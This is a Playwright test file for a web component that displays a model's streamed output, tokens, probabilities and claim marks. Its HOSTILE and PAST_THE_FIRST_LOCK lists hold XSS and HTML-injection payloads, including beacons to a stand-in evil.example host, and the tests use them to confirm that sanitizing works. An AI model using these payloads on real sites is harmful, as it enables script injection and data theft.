"""A run's text in the browser: while it comes, formatted, token by token, and taken along."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from math import log
from typing import Any
from uuid import UUID

import pytest
from playwright.sync_api import Browser, Page, expect

from core.clock import now
from core.detection.palette import contrast
from core.generation.claims.types import Claim, ClaimKind
from core.generation.types import (
    Alternative,
    FinishReason,
    GenerationRun,
    Lead,
    Output,
    SamplingParams,
    TokenEvent,
    Usage,
)
from core.ids import new_id
from core.runs.types import RunStatus
from tests.browser.stage import Stage, stage
from tests.browser.standing import People
from tests.browser.steps import generate, settle, wait_until

pytestmark = pytest.mark.browser

MARKDOWN = "# Findings\n\nThree **red** circles.\n\n- one\n- two\n\n" + "A long remark. " * 60
HOSTILE = (
    "**x** <script>window.hacked = 1</script>",
    "**x** <img src=x onerror='window.hacked = 1'>",
    "**x** <svg/onload=window.hacked=1>",
    "[click](javascript:window.hacked=1) **x**",
    "[click](JaVaScRiPt&colon;window.hacked=1) **x**",
    "[click](java\tscript:window.hacked=1) **x**",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) **x**",
    "[click](vbscript:window.hacked) **x**",
    "<javascript:window.hacked=1> **x**",
    "![beacon](https://evil.example/beacon.png?secret) **x**",
    "[![beacon](https://evil.example/a.png)](https://evil.example/) **x**",
    '![x](https://evil.example/"onerror="window.hacked=1) **x**',
    '[a](https://evil.example/"onmouseover="window.hacked=1) **x**',
    "[a](https://ok.example '\"><img src=https://evil.example/b onerror=window.hacked=1>') **x**",
    '**"><script>window.hacked=1</script>** `<img src=https://evil.example/c>`',
    "```html\n<iframe src=https://evil.example></iframe>\n```",
    "| a |\n|---|\n| <style>@import 'https://evil.example/d'</style> |",
    "**x** <link rel=prefetch href=https://evil.example/e><base href=https://evil.example>",
    "> " * 18 + "**x** <img src=https://evil.example/f>",
    "**x**" + "<b>" * 3000,
    "[" * 3000 + "x" + "](https://evil.example)" * 3000,
    "[r]\n\n[r]: javascript:window.hacked=1 'x'\n\n**x**",
)
PAST_THE_FIRST_LOCK = (
    "<script>window.hacked = 1</script><p onclick='window.hacked=1'>x</p>",
    "<img src='https://evil.example/a' onerror='window.hacked=1'>x",
    "<a href='javascript:window.hacked=1'>x</a><a href=' data:text/html,x'>y</a>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>x",
    "<svg><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>x",
    "<math><mtext></mtext><style><img src=https://evil.example/b></style></math>x",
    "<p style='background:url(https://evil.example/c)'>x</p>",
    "<video src=https://evil.example/d autoplay></video><audio src=https://evil.example/e>x",
    "<object data=https://evil.example/f></object><embed src=https://evil.example/g>x",
    "<form action=https://evil.example><button>x</button></form>",
    "<template><img src=https://evil.example/h></template><noscript><p>x</p></noscript>x",
    "<div>" * 5000 + "x",
)
_STRANGE = """(place) => [...place.querySelectorAll("*")].filter((each) =>
  !/^(a|blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|strong|t[dhr]|table|tbody|thead|ul)$/
    .test(each.localName) ||
  [...each.attributes].some(({ name }) => !/^(href|rel|target|start|style)$/.test(name)) ||
  (each.localName === "a" && !/^(https?|mailto):$/.test(each.protocol)) ||
  !/^(text-align: (left|right|center);)?$/.test(each.style.cssText)
).map((each) => each.outerHTML)"""
"""What of the formatted text is not on the list of what may be."""


def run_of(text: str, lead: str = "", **changes: Any) -> GenerationRun:
    """A finished run that wrote `text`."""
    return GenerationRun(
        id=new_id(),
        user_id=UUID(int=0),
        model="writer",
        revision="1",
        prompt="Write",
        messages=(),
        params=SamplingParams(max_new_tokens=2000, top_logprobs=5),
        status=RunStatus.DONE,
        outputs=(Output(text, FinishReason.STOP),),
        usage=Usage(3, len(text.split())),
        timings_ms={"first_token": 12.0, "total": 400.0},
        created_at=now(),
        lead=Lead(lead) if lead else None,
        **changes,
    )


def being_written(run: GenerationRun) -> GenerationRun:
    return replace(run, status=RunStatus.RUNNING, outputs=(Output("", None),) * run.params.n)


def tokens_of(words: Sequence[str], shares: Sequence[float] = (0.5,)) -> list[TokenEvent]:
    """One token a word; the share of each in turn, with four more alternatives after it."""
    return [
        TokenEvent(
            output=0,
            index=at,
            text=word,
            token_id=at,
            logprob=log(share := shares[at % len(shares)]),
            top=tuple(
                Alternative(text, log(probability), token_id)
                for text, probability, token_id in (
                    (word, share, at),
                    *((f"other{n}", (1 - share) / 5, 9000 + n) for n in range(4)),
                )
            ),
            entropy=1.0 - share,
        )
        for at, word in enumerate(words)
    ]


@pytest.fixture
def alone(browser: Browser) -> Iterator[Stage]:
    """The component on a page of its own."""
    with stage(browser) as opened:
        yield opened


def test_the_place_in_line_is_said_until_the_first_token(alone: Stage) -> None:
    alone.mount(being_written(run_of("one two")))
    state = alone.part("state")
    for position, words in ((12, "12th"), (3, "3rd"), (2, "2nd"), (1, "next")):
        alone.tell("queue", {"position": position})
        expect(state).to_have_text(f"Waiting, {words} in line")
    alone.tell("queue", {"position": 0})
    expect(state).to_have_text("Waiting for the first token")
    alone.write(tokens_of(["one", " two"]))
    expect(state).to_have_text("Writing")


def test_a_broken_stream_is_taken_up_after_the_last_token_seen(alone: Stage) -> None:
    run = run_of("one two three")
    tokens = tokens_of(["one", " two", " three"])
    alone.mount(being_written(run))
    alone.write(tokens[:2])
    expect(alone.part("text")).to_have_text("one two")
    alone.hang_up()
    alone.write(tokens[2:], first=2)
    alone.end(run)
    expect(alone.part("state")).to_have_text("Done")
    expect(alone.part("text")).to_have_text("one two three")
    assert [last for path, last in alone.asked if path.endswith("/stream")] == ["", "1"]


def test_python_hears_one_word_of_a_run(alone: Stage) -> None:
    run = run_of("one two")
    alone.mount(being_written(run))
    alone.write(tokens_of(["one", " two"]))
    alone.end(run)
    expect(alone.part("state")).to_have_text("Done")
    alone.mount(run)
    alone.choose("Tokens")
    expect(alone.part("tokens")).to_contain_text("two")
    assert alone.told() == [["finished", {"run": str(run.id), "state": "done"}]]


def test_each_output_says_how_it_ended(alone: Stage) -> None:
    run = run_of("one")
    alone.mount(
        replace(
            run,
            params=replace(run.params, n=2),
            outputs=(Output("one", FinishReason.STOP), Output("two", FinishReason.LENGTH)),
        )
    )
    expect(alone.part("pane").first).to_contain_text("Output 1 · ended by itself")
    expect(alone.part("pane").last).to_contain_text("Output 2 · token limit reached")


def test_markdown_is_formatted_at_the_end_and_nothing_below_moves(alone: Stage) -> None:
    run = run_of(MARKDOWN)
    alone.mount(being_written(run))
    alone.write(tokens_of([MARKDOWN]))
    alone.end(run)
    expect(alone.part("state")).to_have_text("Done")
    expect(alone.part("text")).to_contain_text("# Findings")
    below = alone.page.locator("#below").bounding_box()
    alone.mount(run)
    formatted = alone.part("formatted")
    expect(formatted.get_by_role("heading", name="Findings")).to_be_visible()
    expect(formatted.locator("strong")).to_have_text("red")
    expect(alone.part("text")).to_be_hidden()
    assert alone.page.locator("#below").bounding_box() == below


def test_a_text_is_followed_while_it_comes_and_read_from_its_start_later(alone: Stage) -> None:
    run = run_of("\n".join(f"line {n}" for n in range(200)))
    (long,) = run.outputs
    alone.mount(being_written(run))
    for number in range(2):
        alone.write(tokens_of([f"{long.text}\n"]), first=number)
        expect(alone.part("figures")).to_contain_text(f"{number + 1}\u00a0/")
    assert _rest_below(alone) < 2
    alone.mount(run_of(long.text))
    expect(alone.part("state")).to_have_text("Done")
    assert alone.part("text").evaluate("(text) => text.scrollTop") == 0


def _rest_below(alone: Stage) -> float:
    """How much of the text lies under what is seen, in pixels."""
    rest: float = alone.part("text").evaluate(
        "(text) => text.scrollHeight - text.scrollTop - text.clientHeight"
    )
    return rest


def test_text_without_markdown_is_not_offered_formatted(alone: Stage) -> None:
    alone.mount(run_of(" Three red circles."))
    expect(alone.part("text")).to_be_visible()
    expect(alone.part("views").get_by_role("radio")).to_have_text(["Text", "Tokens"])


def test_the_chosen_view_holds_for_the_tab_and_keys_change_it(alone: Stage) -> None:
    alone.mount(run_of(MARKDOWN))
    views = alone.part("views").get_by_role("radio")
    views.nth(1).focus()
    alone.page.keyboard.press("ArrowLeft")
    expect(alone.part("text")).to_be_visible()
    alone.mount(run_of("# Another"))
    expect(alone.part("text")).to_have_text("# Another")
    alone.page.keyboard.press("ArrowRight")
    expect(alone.part("formatted").get_by_role("heading")).to_have_text("Another")


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda text: text[:40])
def test_nothing_a_model_writes_runs_or_is_fetched(alone: Stage, hostile: str) -> None:
    _harmless(alone, run_of(hostile))


@pytest.mark.parametrize("hostile", PAST_THE_FIRST_LOCK, ids=lambda text: text[:40])
def test_html_that_got_past_the_first_lock_runs_nothing_either(alone: Stage, hostile: str) -> None:
    _harmless(alone, run_of("**x**"), hostile)


def _harmless(alone: Stage, run: GenerationRun, html: str | None = None) -> None:
    requests: list[str] = []
    alone.page.on("request", lambda request: requests.append(request.url))
    alone.mount(run, html=html)
    expect(alone.part("pane")).to_contain_text("x")
    for part in alone.part("formatted").locator("*").all()[:20]:
        part.dispatch_event("mouseover")
        part.dispatch_event("click")
    alone.page.wait_for_timeout(50)  # whatever was set off would have begun
    assert alone.page.evaluate("window.hacked") is None
    assert requests == []
    assert alone.part("formatted").evaluate(_STRANGE) == []


def test_links_open_elsewhere_and_tell_nothing(alone: Stage) -> None:
    alone.mount(run_of("See [the guide](https://example.org/guide)."))
    link = alone.part("formatted").get_by_role("link")
    expect(link).to_have_attribute("href", "https://example.org/guide")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def opened_tokens(
    alone: Stage, tokens: Sequence[TokenEvent], *, can_branch: bool = False
) -> GenerationRun:
    """A finished run, opened later, in the view of its tokens."""
    run = run_of("".join(token.text for token in tokens))
    alone.mount(run, can_branch=can_branch)
    assert alone.asked == []
    alone.choose("Tokens")
    alone.write(tokens)
    alone.end(run)
    return run


def test_tokens_are_fetched_once_when_first_looked_at(alone: Stage) -> None:
    opened_tokens(alone, tokens_of(["one", " two"]))
    expect(alone.part("tokens").locator("[data-at]")).to_have_text(["one", " two"])
    alone.choose("Text")
    alone.choose("Tokens")
    expect(alone.part("tokens")).to_be_visible()
    assert len(alone.asked) == 1


def test_a_token_shows_its_probability_and_what_else_might_have_come(alone: Stage) -> None:
    opened_tokens(alone, tokens_of(["sure", " unsure"], shares=(0.95, 0.2)))
    words = alone.part("tokens").locator("[data-at]")
    expect(words.nth(0)).to_have_attribute("data-band", "0")
    expect(words.nth(1)).to_have_attribute("data-band", "3")
    expect(words.nth(1)).to_have_css("text-decoration-style", "dashed")
    words.nth(1).hover()
    card = alone.part("card")
    expect(card).to_contain_text("20.0")
    expect(card).to_contain_text("token 2 of 2")
    rows = alone.part("alternative")
    expect(rows).to_have_count(5)
    shares = [float(re.findall(r"([\d.]+)\s%", row)[0]) for row in rows.all_inner_texts()]
    (rest,) = re.findall(r"All other tokens together: ([\d.]+)", card.inner_text())
    assert sum(shares) <= 100
    assert sum(shares) + float(rest) == pytest.approx(100, abs=0.3)
    expect(alone.part("branch")).to_have_count(0)


def test_a_token_that_was_not_among_the_likeliest_is_listed_too(alone: Stage) -> None:
    (token,) = tokens_of(["rare"])
    opened_tokens(alone, [replace(token, logprob=log(0.01), token_id=77, text="rare")])
    alone.part("tokens").locator("[data-at]").hover()
    expect(alone.part("alternative")).to_have_count(6)
    expect(alone.part("alternative").last).to_contain_text("written")


def test_keys_walk_the_tokens_and_begin_a_branch(alone: Stage) -> None:
    run = opened_tokens(alone, tokens_of(["one", " two", " three"]), can_branch=True)
    expect(alone.part("tokens").locator("[data-at]")).to_have_count(3)
    alone.part("tokens").focus()
    keys = alone.page.keyboard
    for key in ("End", "ArrowLeft", "Enter"):
        keys.press(key)
    expect(alone.part("card")).to_contain_text("token 2 of 3")
    expect(alone.part("branch").first).to_be_focused()
    keys.press("Enter")
    keys.press("Enter")
    wish = {"run": str(run.id), "output": 0, "index": 1, "token_id": 9000}
    assert alone.told() == [["branch", wish]]
    keys.press("Escape")
    expect(alone.part("tokens")).to_be_focused()


def test_the_curve_and_the_text_point_at_the_same_token(alone: Stage) -> None:
    opened_tokens(alone, tokens_of([f" w{n}" for n in range(10)], shares=(0.9, 0.1)))
    curve = alone.part("curve")
    expect(curve).to_contain_text("Entropy in bits: mean 0.72, highest 1.30")
    box = curve.locator("svg").bounding_box()
    assert box is not None
    alone.page.mouse.move(box["x"] + box["width"] * 0.35, box["y"] + 5)
    expect(alone.part("card")).to_contain_text("token 4 of 10")
    expect(alone.part("tokens").locator(".now")).to_have_text(" w3")
    alone.part("tokens").locator("[data-at='7']").hover()
    expect(curve.locator(".marker")).to_have_attribute("x1", "7.5")


@pytest.mark.parametrize(
    ("lacking", "said"),
    [
        ({"logprob": None, "top": (), "entropy": None}, "does not tell how likely"),
        ({"top": (), "entropy": None}, "No entropy"),
    ],
)
def test_what_an_engine_does_not_tell_is_said(
    alone: Stage, lacking: dict[str, Any], said: str
) -> None:
    opened_tokens(alone, [replace(token, **lacking) for token in tokens_of(["one", " two"])])
    expect(alone.part("tokens")).to_have_text("one two")
    expect(alone.part("pane")).to_contain_text(said)
    expect(alone.part("curve")).to_be_hidden()


def test_tokens_that_cannot_be_fetched_are_asked_for_again(alone: Stage) -> None:
    run = run_of("one")
    alone.mount(run)
    alone.choose("Tokens")
    alone.hang_up()
    expect(alone.part("pane")).to_contain_text("could not be fetched")
    alone.write(tokens_of(["one"]))
    alone.end(run)
    alone.page.get_by_role("button", name="Try again").click()
    expect(alone.part("tokens").locator("[data-at]")).to_have_text(["one"])


def test_two_thousand_tokens_are_drawn_once(alone: Stage) -> None:
    tokens = tokens_of([f" w{n}" for n in range(2000)], shares=(0.99, 0.5, 0.05))
    opened_tokens(alone, tokens)
    drawn = alone.part("tokens").locator("[data-at]")
    expect(drawn).to_have_count(2000)
    expect(drawn.last).to_have_attribute("data-at", "1999")
    first = drawn.first.evaluate_handle("(span) => span")
    alone.choose("Text")
    alone.choose("Tokens")
    expect(drawn).to_have_count(2000)
    assert first.evaluate("(span) => span.isConnected")
    assert len(alone.asked) == 1


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_band_is_read_well(browser: Browser, scheme: str) -> None:
    with stage(browser, scheme) as alone:
        opened_tokens(alone, tokens_of(list("abcde"), shares=(0.95, 0.7, 0.4, 0.2, 0.05)))
        expect(alone.part("tokens").locator("[data-at]")).to_have_count(5)
        pairs = alone.part("tokens").evaluate(
            """(place) => {
              const canvas = document.createElement("canvas");
              const pen = canvas.getContext("2d", { willReadFrequently: true });
              const hex = (...layers) => {
                for (const layer of layers) { pen.fillStyle = layer; pen.fillRect(0, 0, 1, 1); }
                return "#" + [...pen.getImageData(0, 0, 1, 1).data].slice(0, 3)
                  .map((part) => part.toString(16).padStart(2, "0")).join("");
              };
              const ground = getComputedStyle(place).backgroundColor;
              return [...place.querySelectorAll("[data-at]")].map((span) => {
                const { color, backgroundColor } = getComputedStyle(span);
                return [hex(color), hex(ground, backgroundColor)];
              });
            }"""
        )
    assert len({ground for _, ground in pairs}) == 5
    assert min(contrast(ink, ground) for ink, ground in pairs) >= 4.5


def test_what_is_copied_and_downloaded_is_lead_and_text(alone: Stage) -> None:
    run = run_of(" red circles,\nand “one” 🎩.", lead="There are three")
    alone.mount(run)
    expect(alone.part("text").locator(".lead")).to_have_text("There are three")
    alone.part("copy").click()
    expect(alone.part("copy")).to_have_text("Copied")
    whole = "There are three red circles,\nand “one” 🎩."
    assert alone.page.evaluate("navigator.clipboard.readText()") == whole
    for extension in ("txt", "md"):
        with alone.page.expect_download() as download:
            alone.part(extension).click()
        assert download.value.suggested_filename == f"glimpse-{run.id}.{extension}"
        assert download.value.path().read_text("utf-8") == whole
    told = [("copied", "output 1"), ("downloaded", "txt"), ("downloaded", "md")]
    path = f"/api/v1/runs/{run.id}/signals"
    wait_until(lambda: len(alone.sent) == 3)
    arrived = sorted(alone.sent, key=str)  # in whatever order: no request waits for another
    assert arrived == [(path, {"kind": kind, "what": what}) for kind, what in sorted(told)]


def test_copying_works_without_https_too(alone: Stage) -> None:
    alone.mount(run_of("one\ntwo"))
    alone.page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    alone.part("copy").click()
    expect(alone.part("copy")).to_have_text("Copied")
    alone.page.evaluate("document.body.append(document.createElement('textarea'))")
    alone.page.locator("textarea").focus()
    alone.page.keyboard.press("Control+V")
    expect(alone.page.locator("textarea")).to_have_value("one\ntwo")


def test_claims_are_marked_where_they_stand_and_say_why(alone: Stage) -> None:
    lead, text = "🎩 Two stars", " and **three** 🦔 hedgehogs."
    whole = lead + text

    def claim(words: str, supported: bool) -> Claim:
        start = whole.index(words)
        span = (start, start + len(words))
        return Claim(span, ClaimKind.COUNT, words, supported, f"the boxes say so of {words}")

    claims = (claim("Two stars", True), claim("three** 🦔 hedgehogs", False))
    run = run_of(text, lead=lead)
    alone.mount(replace(run, outputs=(Output(text, FinishReason.STOP, claims),)))
    marks = alone.part("claim")
    expect(marks).to_have_text(["Two stars", "three** 🦔 hedgehogs"])
    expect(marks.first).to_have_css("text-decoration-style", "dotted")
    expect(marks.last).to_have_css("text-decoration-style", "wavy")
    assert "✗" in marks.last.evaluate("(mark) => getComputedStyle(mark, '::after').content")
    expect(alone.part("text")).to_have_text(whole)
    expect(alone.part("claims")).to_have_text("1 of 2 claims supported by the boxes")
    marks.last.focus()
    expect(alone.part("tip")).to_have_text(
        "Not supported: the boxes say so of three** 🦔 hedgehogs"
    )
    alone.choose("Formatted")
    expect(alone.part("formatted").locator("strong")).to_have_text("three")


def test_the_product_shows_the_tokens_of_a_text_it_wrote(page: Page, people: People) -> None:
    people.enter(page, "wei")
    generate(page, "Findings: 3 red circle; 1 blue star. Report:")
    expect(page.get_by_test_id("tokenstream-state")).to_contain_text("Done")
    settle(page)
    text = page.get_by_test_id("tokenstream-text").inner_text()
    page.reload()
    settle(page)
    page.get_by_role("radio", name="Tokens").click()
    words = page.get_by_test_id("tokenstream-tokens").locator("[data-at]")
    expect(words.first).to_be_visible()
    assert "".join(words.all_text_contents()).strip(" ◌") == text.strip()
    words.first.hover()
    expect(page.get_by_test_id("tokenstream-card")).to_contain_text("token 1 of")
